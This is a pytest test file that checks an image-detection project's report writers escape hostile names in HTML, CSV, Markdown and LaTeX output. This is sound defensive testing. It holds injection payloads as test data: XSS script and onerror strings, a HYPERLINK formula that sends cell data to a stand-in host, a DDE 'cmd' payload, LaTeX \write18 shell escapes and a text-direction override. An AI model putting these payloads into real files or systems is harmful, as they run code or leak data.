"""Names of runs, sets and images come from anybody; whatever they hold, they stay names."""

import csv
import dataclasses
import html.parser
import io
import re

import numpy as np
import pytest

from jaxdet.experiments import beside
from jaxdet.pages import spreadsheet_safe
from jaxdet.predict.__main__ import _csv
from jaxdet.report.write import write_report
from tests.report.runs import predictions, write_analyses, write_run

MARKUP = '"><script>alert(1)</script><img src=x onerror=alert(2)>'
FORMULA = '=HYPERLINK("http://a.b/?"&A1,"x")'
TURNED = "gpj.\N{RIGHT-TO-LEFT OVERRIDE}egami\N{RIGHT-TO-LEFT MARK}"
LATEX = r"\input{|ls}$\write18{id}$%"
PIPES = "a | b ` [c](javascript:alert(3)) | d"
NAMES = (MARKUP, FORMULA, TURNED, LATEX, PIPES, "-1+cmd|' /C calc'!A0", "@SUM(1)", "\t=1")


class _Page(html.parser.HTMLParser):
    """Tags and attributes of a page."""

    def __init__(self, text):
        super().__init__()
        self.tags, self.attributes, self.links = [], set(), []
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes |= {name for name, _ in attrs}
        self.links += [value or "" for name, value in attrs if name in ("href", "src")]


@pytest.fixture(scope="module")
def written(tmp_path_factory):
    """The files of a report on two runs with such names: name to text."""
    root = tmp_path_factory.mktemp("hostile")
    sets = {name.replace("/", "\N{FRACTION SLASH}"): _rows(name) for name in NAMES}
    for number, name in enumerate((MARKUP, FORMULA)):
        path = write_run(root / str(number), sets, name=name, draws=2)
        write_analyses(path, sets, side=16, kinds=("protocol", "blur"))
    write_report([root / "0", root / "1"], root / "out")
    texts = [p for p in (root / "out").iterdir() if p.suffix in (".html", ".csv", ".md", ".tex")]
    return {path.name: path.read_text() for path in texts}


def _rows(name):
    rows = predictions("progan", per_label=8)
    ids = np.array([i.replace(".png", f"{name.replace('/', '')}.png") for i in rows.id])
    return dataclasses.replace(rows, id=ids)


def test_nothing_turns_the_direction_of_text_or_moves_a_cursor(written):
    assert len(written) >= 7
    for name, text in written.items():
        odd = {c for c in text if not c.isprintable()} - {"\n"}
        assert not odd, (name, odd)


def test_the_page_has_no_script_but_its_own_and_no_handler(written):
    page = _Page(written["index.html"])
    assert page.tags.count("script") == 1
    assert not [name for name in page.attributes if name.startswith("on")]
    assert all(link.startswith(("#", "data:image/", "table.", "figures/", "comparison.",
                                "conditions.")) for link in page.links)  # fmt: skip
    assert "alert(1)" in written["index.html"]


@pytest.mark.parametrize("name", ["table.csv", "comparison.csv", "conditions.csv"])
def test_no_cell_of_csv_is_a_formula(written, name):
    cells = [cell for row in csv.reader(io.StringIO(written[name])) for cell in row]
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
    assert not [c for c in cells if re.match(r"[=+@\t\r]|-(?![\d.])|-1\+", c)]


@pytest.mark.parametrize("name", ["table.md", "comparison.md"])
def test_markdown_tables_keep_their_columns_and_hold_no_markup(written, name):
    text = written[name]
    assert not re.search(r"<\w", text)
    assert not re.search(r"(?<!\\)\]\(", text)
    columns = 0
    for line in text.splitlines():
        bars = len(re.findall(r"(?<!\\)\|", line))
        columns = bars if line.startswith("|") and not columns else columns
        assert bars == (columns if line.startswith("|") else 0), line
        columns = columns if line.startswith("|") else 0


@pytest.mark.parametrize("name", ["table.tex", "comparison.tex"])
def test_latex_runs_no_command_of_a_name(written, name):
    text = written[name]
    assert "input" in text
    assert not re.search(r"\\(input|write)", text)
    assert not re.search(r"(?<!\\)%(?! Needs| Wider)", text)


def test_predict_s_csv_is_safe_too_and_keeps_numbers():
    rows = [{"path": "=1+1.png", "logit": -2.5, "probability": 0.1, "prediction": "real"},
            {"path": "a\udcff\n.png", "error": "-x"}]  # fmt: skip
    found = list(csv.DictReader(io.StringIO(_csv(rows))))
    assert found[0]["path"] == "'=1+1.png"
    assert float(found[0]["logit"]) == -2.5
    assert found[1]["path"] == "a\N{REPLACEMENT CHARACTER}\N{REPLACEMENT CHARACTER}.png"
    assert found[1]["error"] == "'-x"
    _csv(rows).encode()


def test_so_is_that_beside_the_published_numbers():
    fields = [field.name for field in dataclasses.fields(beside.Pair)]
    pair = beside.Pair(**dict.fromkeys(fields, "=1"))
    cells = list(csv.reader(io.StringIO(beside.csv_text([pair]))))[1]
    assert set(cells) == {"'=1"}
    assert spreadsheet_safe("plain - name") == "plain - name"
